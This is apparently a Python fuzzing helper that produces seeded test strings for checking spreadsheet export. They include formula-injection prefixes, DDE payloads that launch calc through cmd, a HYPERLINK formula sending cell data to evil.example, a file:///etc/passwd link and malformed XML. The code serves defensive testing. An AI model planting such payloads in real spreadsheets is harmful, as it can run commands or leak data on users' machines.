"""Texts that a spreadsheet might run, convert or choke on, made from a seed."""

from __future__ import annotations

import random

_STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "'=", '"=', ";=", ",=", "|",
    "=+", "+=", "--", "@@", "",
)  # fmt: skip
_BEFORE = (
    "", "", "", " ", "\u3000", "\xa0", "\u200b", "\u200e", "\u2060", "\ufeff", "\x00", "\x0b", "\x1f", " \t", "\u2028", "\x85",
    "\xad", "\u202a", "\u2066", "\x7f", "\x9f",
)  # fmt: skip
_BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example/?"&A1,"点此")', "cmd|'/c calc'!A0", 'DDE("cmd";"/c calc";"x")',
    "WEBSERVICE(A1)", "IMPORTXML(A1)", "2+5+cmd|' /C calc'!A0", "甲", "", "1", "12%", "-", "A1", '"', "x\ny", "\ud800", "𠀀",
)  # fmt: skip
_WHOLE = (
    "44000021000000012345", "1-2", "00123", "TRUE", "false", "#N/A", "#REF!", "{=1}", "1E5", "2023/1/2", "3e400", "NaN", "inf",
    "0x1F", "http://evil.example", "mailto:a@b.c", "file:///etc/passwd", "internal:Sheet1!A1", "external:c:\\x.xlsx", "\\\\h\\s",
    "<r><t>a</t></r>", "<r></is></c><c><f>1</f></c></r>", "</t></is></c><c><f>1+1</f></c>", "&lt;f&gt;", "]]>", "<!--", "_x003D_1",
    "_x000D_", "\ud83d", "\udc00=1", "\x01\x02", "\ufffe", "\uffff", "a\x00b", "a\r\nb", "长" * 40_000, "=" + "9" * 39_999,
    "𠀀" * 20_000,
)  # fmt: skip


def hostile_texts(count: int) -> list[str]:
    """So many texts; each of the whole ones among them."""
    chance = random.Random(20240501)
    texts = list(_WHOLE)
    while len(texts) < count:
        if chance.random() < 0.2:
            texts.append(chance.choice(_WHOLE[:-3]))
        else:
            texts.append(chance.choice(_BEFORE) + chance.choice(_STARTS) + chance.choice(_BODIES))
    chance.shuffle(texts)
    return texts
